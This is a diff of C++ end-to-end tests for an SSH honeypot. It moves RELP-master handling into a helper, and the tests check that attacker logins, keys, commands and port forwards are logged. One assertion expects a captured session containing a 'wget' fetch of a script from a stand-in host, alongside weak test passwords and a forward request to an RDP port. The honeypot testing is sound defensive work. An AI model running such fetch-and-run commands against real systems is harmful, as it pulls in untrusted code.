@@ -25,10 +25,8 @@ class SshDecky : public DeckyRun {
 
 class SshEndToEnd : public ::testing::Test {
  protected:
-  int relp_port_ = free_port();
+  RelpMaster master_;
   int ssh_port_ = free_port();
-  ServeProcess master_{{{"DECNET_SYSLOG_RELP_ENABLED", "true"},
-                        {"DECNET_SYSLOG_RELP_PORT", std::to_string(relp_port_)}}};
   TempDir dir_;
 
   // ssh through sshpass, never asking about or remembering the decky's host key.
@@ -43,19 +41,11 @@ class SshEndToEnd : public ::testing::Test {
     if (!input.empty()) command = "printf '" + input + "' | " + command;
     return run_command({"sh", "-c", command}, {}, std::chrono::seconds(30));
   }
-
-  std::int64_t count(const std::string& table, const std::string& where) {
-    return sqlite_int(master_.db(), "SELECT count(*) FROM " + table + " WHERE " + where)
-        .value_or(0);
-  }
-  bool arrives(const std::string& table, const std::string& where, std::int64_t n = 1) {
-    return wait_until([&] { return count(table, where) >= n; }, std::chrono::seconds(30));
-  }
 };
 
 TEST_F(SshEndToEnd, OpenSshLoginsCommandsKeysAndForwardsLandOnTheMaster) {
-  ASSERT_TRUE(master_.wait_ready()) << master_.output();
-  SshDecky decky(dir_, relp_port_, ssh_port_);
+  ASSERT_TRUE(master_.ready()) << master_.output();
+  SshDecky decky(dir_, master_.relp_port(), ssh_port_);
   ASSERT_TRUE(decky.ready()) << decky.child().output();
 
   const auto refused = ssh("letmein", {"-o PreferredAuthentications=password"}, "id");
@@ -97,16 +87,18 @@ TEST_F(SshEndToEnd, OpenSshLoginsCommandsKeysAndForwardsLandOnTheMaster) {
       wait_until([&] { return TcpClient(forward_port).connected(); }, std::chrono::seconds(20)));
 
   // Every attempt, with its method and outcome.
-  EXPECT_TRUE(arrives("credentials",
+  EXPECT_TRUE(
+      master_.arrives("credentials",
                       "service = 'ssh' AND principal = 'root' AND secret_printable = 'letmein' "
                       "AND outcome = 'failure' AND secret_kind = 'plaintext'"))
       << master_.output();
-  EXPECT_TRUE(arrives("credentials",
+  EXPECT_TRUE(
+      master_.arrives("credentials",
                       "service = 'ssh' AND principal = 'root' AND secret_printable = 'admin' AND "
                       "outcome = 'success'"));
-  EXPECT_TRUE(arrives("logs",
-                      "service = 'ssh' AND event_type = 'auth_attempt' AND "
-                      "json_extract(fields, '$.method') = 'keyboard-interactive'"));
+  EXPECT_TRUE(master_.arrives("logs",
+                              "service = 'ssh' AND event_type = 'auth_attempt' AND "
+                              "json_extract(fields, '$.method') = 'keyboard-interactive'"));
 
   // The key is stored by its blob, which is what the public key file holds in base64.
   std::ifstream pub(key.string() + ".pub");
@@ -114,39 +106,41 @@ TEST_F(SshEndToEnd, OpenSshLoginsCommandsKeysAndForwardsLandOnTheMaster) {
   pub >> type >> encoded;
   const auto blob = core::base64_decode(encoded);
   ASSERT_TRUE(blob);
-  EXPECT_TRUE(arrives("credentials",
-                      "service = 'ssh' AND secret_kind = 'ssh_public_key' AND "
-                      "secret_sha256 = '" +
-                          core::sha256_hex(*blob) + "'"))
+  EXPECT_TRUE(master_.arrives("credentials",
+                              "service = 'ssh' AND secret_kind = 'ssh_public_key' AND "
+                              "secret_sha256 = '" +
+                                  core::sha256_hex(*blob) + "'"))
       << sqlite_value(master_.db(),
                       "SELECT group_concat(secret_kind || ':' || secret_sha256) FROM credentials")
              .value_or("none");
   const auto fingerprint = run_command({"ssh-keygen", "-l", "-f", key.string() + ".pub"});
-  EXPECT_TRUE(arrives("logs",
-                      "service = 'ssh' AND json_extract(fields, '$.key_type') = "
-                      "'ssh-ed25519' AND instr('" +
-                          fingerprint.output + "', json_extract(fields, '$.key_fingerprint')) > 0"))
+  EXPECT_TRUE(master_.arrives("logs",
+                              "service = 'ssh' AND json_extract(fields, '$.key_type') = "
+                              "'ssh-ed25519' AND instr('" +
+                                  fingerprint.output +
+                                  "', json_extract(fields, '$.key_fingerprint')) > 0"))
       << fingerprint.output;
 
   // The command, and the interactive session with its commands and recording.
-  EXPECT_TRUE(arrives("logs",
-                      "service = 'ssh' AND event_type = 'command' AND "
-                      "json_extract(fields, '$.command') = 'uname -a; id'"));
-  EXPECT_TRUE(arrives("sessions",
+  EXPECT_TRUE(master_.arrives("logs",
+                              "service = 'ssh' AND event_type = 'command' AND "
+                              "json_extract(fields, '$.command') = 'uname -a; id'"));
+  EXPECT_TRUE(
+      master_.arrives("sessions",
                       "service = 'ssh' AND outcome = 'logged_in' AND recording IS NOT NULL AND "
                       "commands LIKE '%wget http://203.0.113.50/x.sh%'"))
       << sqlite_value(master_.db(),
                       "SELECT group_concat(outcome || ' ' || ifnull(commands, '')) FROM sessions "
                       "WHERE service = 'ssh'")
              .value_or("no session");
-  EXPECT_TRUE(arrives("logs", "service = 'ssh' AND event_type = 'download_attempt'"));
+  EXPECT_TRUE(master_.arrives("logs", "service = 'ssh' AND event_type = 'download_attempt'"));
 
   // The forwarding request names the target the client asked for.
   { TcpClient through(forward_port); }
-  EXPECT_TRUE(arrives("logs",
-                      "service = 'ssh' AND event_type = 'port_forward_request' AND "
-                      "json_extract(fields, '$.dst_host') = '198.51.100.80' AND "
-                      "json_extract(fields, '$.dst_port') = '3389'"));
+  EXPECT_TRUE(master_.arrives("logs",
+                              "service = 'ssh' AND event_type = 'port_forward_request' AND "
+                              "json_extract(fields, '$.dst_host') = '198.51.100.80' AND "
+                              "json_extract(fields, '$.dst_port') = '3389'"));
 
   // The HASSH of the pinned connection: its lists are the ones the command line gave (the
   // client adds its pseudo-algorithms to the key exchange list), and its hash is their MD5.
@@ -156,18 +150,18 @@ TEST_F(SshEndToEnd, OpenSshLoginsCommandsKeysAndForwardsLandOnTheMaster) {
                    "'ssh' AND event_type = 'connection' AND json_extract(fields, "
                    "'$.hassh_algorithms') LIKE 'curve25519-sha256,%;aes128-ctr;hmac-sha2-256;%'");
   ASSERT_TRUE(algorithms);
-  EXPECT_EQ(count("logs", "service = 'ssh' AND json_extract(fields, '$.hassh') = '" +
-                              core::md5_hex(*algorithms) + "'"),
+  EXPECT_EQ(master_.count("logs", "service = 'ssh' AND json_extract(fields, '$.hassh') = '" +
+                                      core::md5_hex(*algorithms) + "'"),
             1);
-  EXPECT_TRUE(arrives("logs",
-                      "service = 'ssh' AND event_type = 'connection' AND "
-                      "json_extract(fields, '$.client_version') LIKE 'SSH-2.0-OpenSSH_%'",
-                      5));
+  EXPECT_TRUE(master_.arrives("logs",
+                              "service = 'ssh' AND event_type = 'connection' AND "
+                              "json_extract(fields, '$.client_version') LIKE 'SSH-2.0-OpenSSH_%'",
+                              5));
 }
 
 // The host keys are the decky's identity: a restart must present the same ones.
 TEST_F(SshEndToEnd, HostKeysSurviveARestart) {
-  ASSERT_TRUE(master_.wait_ready()) << master_.output();
+  ASSERT_TRUE(master_.ready()) << master_.output();
   const auto host_key = [&] {
     const auto r =
         run_command({"ssh-keyscan", "-t", "ed25519", "-p", std::to_string(ssh_port_), "127.0.0.1"});
@@ -176,13 +170,13 @@ TEST_F(SshEndToEnd, HostKeysSurviveARestart) {
   };
   std::string first;
   {
-    SshDecky decky(dir_, relp_port_, ssh_port_);
+    SshDecky decky(dir_, master_.relp_port(), ssh_port_);
     ASSERT_TRUE(decky.ready()) << decky.child().output();
     first = host_key();
     ASSERT_FALSE(first.empty());
     EXPECT_EQ(decky.child().stop(SIGTERM), 0) << decky.child().output();
   }
-  SshDecky again(dir_, relp_port_, ssh_port_);
+  SshDecky again(dir_, master_.relp_port(), ssh_port_);
   ASSERT_TRUE(again.ready()) << again.child().output();
   EXPECT_EQ(host_key(), first);
 }
